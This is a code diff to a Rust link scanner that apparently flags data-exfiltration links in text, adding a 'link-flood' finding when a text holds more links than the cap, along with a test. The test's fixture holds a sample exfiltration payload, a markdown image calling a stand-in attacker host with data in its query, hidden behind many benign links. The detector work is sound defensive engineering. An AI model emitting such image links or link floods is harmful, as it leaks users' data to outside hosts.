@@ -8,7 +8,10 @@ use super::rules::{Family, Severity};
 use super::{Finding, ViewFindings};
 
 const MAX_URL: usize = 2048;
-const MAX_LINKS: usize = 64;
+/// Links checked per text; past it the text gets a `limit.link-flood`
+/// finding rather than unchecked links (a benign prefix of links must not
+/// hide an exfiltration link behind it).
+const MAX_LINKS: usize = 1024;
 
 /// Where the markup stage saw link syntax: every `](` and `]: ` (up to
 /// [`MAX_CLOSES`]) and whether an `<img` occurs.
@@ -57,6 +60,13 @@ pub(crate) fn scan(lower: &[u8], marks: &LinkMarks, allowlist: &[String], out: &
     let mut seen = 0usize;
     let mut check = |at: usize, url_start: usize, image: bool, reference: bool| -> bool {
         if seen >= MAX_LINKS {
+            out.push(Finding {
+                rule_id: "limit.link-flood".to_owned(),
+                family: Family::Limit,
+                severity: Severity::Medium,
+                start: 0,
+                end: lower.len(),
+            });
             return false;
         }
         let Some((start, end)) = url_span(lower, url_start) else {
@@ -281,6 +291,15 @@ mod tests {
             )
             .is_empty()
         );
+    }
+
+    #[test]
+    fn links_past_the_cap_are_reported_not_skipped() {
+        let benign = "[doc](https://docs.example/page) ".repeat(MAX_LINKS);
+        let text = format!("{benign}![a](https://evil.example/p.png?d=[DATA])");
+        let found = ids(&text, &[]);
+        assert!(found.iter().any(|id| id == "limit.link-flood"), "{found:?}");
+        assert!(ids(&benign, &[]).is_empty());
     }
 
     #[test]
